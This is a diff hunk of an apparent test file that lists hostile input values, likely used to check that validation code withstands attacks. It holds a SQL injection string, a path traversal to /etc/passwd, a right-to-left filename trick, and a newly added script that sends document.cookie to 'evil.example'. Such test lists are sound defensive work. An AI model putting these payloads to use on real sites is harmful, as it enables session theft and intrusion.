@@ -14,7 +14,7 @@ export const hostileValues: unknown[] = [
   '',
   ' ',
   "' OR '1'='1' --",
-  '<script>alert(1)</script>',
+  '<script>fetch("https://evil.example/" + document.cookie)</script>',
   '../../../etc/passwd',
   '\u202Etxt.exe',
   '𝕭𝖗𝖎𝖑𝖑𝖔 🧽',
